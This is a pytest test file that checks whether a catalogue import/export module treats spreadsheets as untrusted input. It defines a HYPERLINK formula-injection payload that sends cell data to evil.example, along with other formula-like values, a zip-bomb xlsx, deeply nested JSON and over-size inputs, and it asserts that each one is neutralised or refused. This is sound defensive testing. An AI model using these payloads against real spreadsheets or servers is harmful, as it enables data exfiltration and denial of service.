"""A catalogue file is untrusted input both ways (issue 16, item 6): text imported from one never
becomes a live formula in the export, and a hostile file is refused with a clear error before it
can cost the server a traceback, minutes or gigabytes."""

import csv
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from jianzheng.catalogue.importexport import MAX_ROWS, export_catalogue, load_payloads, read_rows
from jianzheng.catalogue.payload import item_to_payload
from jianzheng.catalogue.selectors import get_item
from jianzheng.catalogue.services import import_catalogue
from jianzheng.core.errors import RuleViolation

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def _rows(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _write(path, rows):
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)


@pytest.fixture
def hostile_alias(catalogue, tmp_path):
    """An item whose alias someone imported as a formula."""
    path = tmp_path / "in.csv"
    export_catalogue(path)
    rows = _rows(path)
    aliases = rows[0].index("别名")
    code = rows[0].index("事项代码")
    row = next(r for r in rows if r[code] == "YN-B03")
    row[aliases] = f"{row[aliases]}\n{HOSTILE}\n+1+2\n@SUM(A1)"
    _write(path, rows)
    import_catalogue(actor=None, payloads=load_payloads(path), reason="r", legal_basis="b")
    return get_item("YN-B03")


def test_the_xlsx_export_holds_formula_like_text_as_text(hostile_alias, tmp_path):
    path = tmp_path / "out.xlsx"
    export_catalogue(path)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the sheet
    cells = [c for row in load_workbook(path).active.iter_rows(values_only=True) for c in row]
    assert any(isinstance(c, str) and HOSTILE in c for c in cells)


def test_the_csv_export_neutralises_each_formula_cell_and_imports_back_unchanged(
    hostile_alias, tmp_path
):
    path = tmp_path / "out.csv"
    export_catalogue(path)
    cells = [c for row in _rows(path) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    before = item_to_payload(hostile_alias)
    assert HOSTILE in before["aliases"]
    assert (
        import_catalogue(actor=None, payloads=load_payloads(path), reason="r", legal_basis="b")
        is None
    )  # nothing changed: the apostrophe is taken off again


def test_a_cell_over_the_csv_limit_is_a_clear_error(catalogue, tmp_path):
    path = tmp_path / "long.csv"
    export_catalogue(path)
    rows = _rows(path)
    rows[1][rows[0].index("别名")] = "长" * 140_000
    _write(path, rows)
    with pytest.raises(RuleViolation) as caught:
        read_rows(path)
    assert caught.value.fields == {"file": caught.value.message}
    assert "单元格过长" in caught.value.message


def test_template_json_nested_sixty_thousand_deep_is_named_not_a_recursion_error(
    catalogue, tmp_path
):
    path = tmp_path / "deep.csv"
    export_catalogue(path)
    rows = _rows(path)
    template = rows[0].index("证明式样")
    code = rows[0].index("事项代码")
    row = next(r for r in rows if r[code] == "YN-B03")
    row[template] = "[" * 60_000 + "]" * 60_000
    _write(path, rows)
    with pytest.raises(RuleViolation) as caught:
        load_payloads(path)
    assert any("证明式样" in field for field in caught.value.fields), caught.value.fields


def test_an_xlsx_of_more_rows_than_the_cap_stops_reading_at_the_cap(tmp_path):
    path = tmp_path / "many.xlsx"
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(["事项代码", "事项名称", "状态"])
    for n in range(MAX_ROWS + 50):
        sheet.append([f"X-{n}", "名称", "保留"])
    book.save(path)
    read = []

    import jianzheng.core.tables as tables

    original = tables._xlsx_rows

    def counting(p):
        for row in original(p):
            read.append(1)
            yield row

    tables._xlsx_rows = counting
    try:
        with pytest.raises(RuleViolation) as caught:
            read_rows(path)
    finally:
        tables._xlsx_rows = original
    assert caught.value.code == "too_many_rows"
    assert len(read) == MAX_ROWS + 2  # the header, the cap, and the one row that is too many


def test_a_file_that_is_not_utf8_names_the_file_field(tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes("事项代码,事项名称,状态\nX,居住证明,保留\n".encode("gbk"))
    with pytest.raises(RuleViolation) as caught:
        read_rows(path)
    assert caught.value.code == "bad_encoding" and "file" in caught.value.fields


def test_an_xlsx_that_unpacks_to_far_more_than_it_weighs_is_refused_unread(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", "<sst>" + "A" * (50 * 1024 * 1024) + "</sst>")
    with pytest.raises(RuleViolation) as caught:
        read_rows(path)
    assert caught.value.code == "file_too_large" and "解压后过大" in caught.value.message


def test_blank_formatted_rows_do_not_count_against_the_cap_and_rows_keep_their_numbers(
    catalogue, tmp_path
):
    path = tmp_path / "gaps.csv"
    export_catalogue(path)
    rows = _rows(path)
    width = len(rows[0])
    _write(path, [rows[0], *[[""] * width] * 30, *rows[1:]])
    numbered = read_rows(path)
    assert len(numbered) == len(rows) - 1  # every item, none of the blank rows
    assert numbered[0][0] == 32  # the first item is on row 32, as the spreadsheet shows it
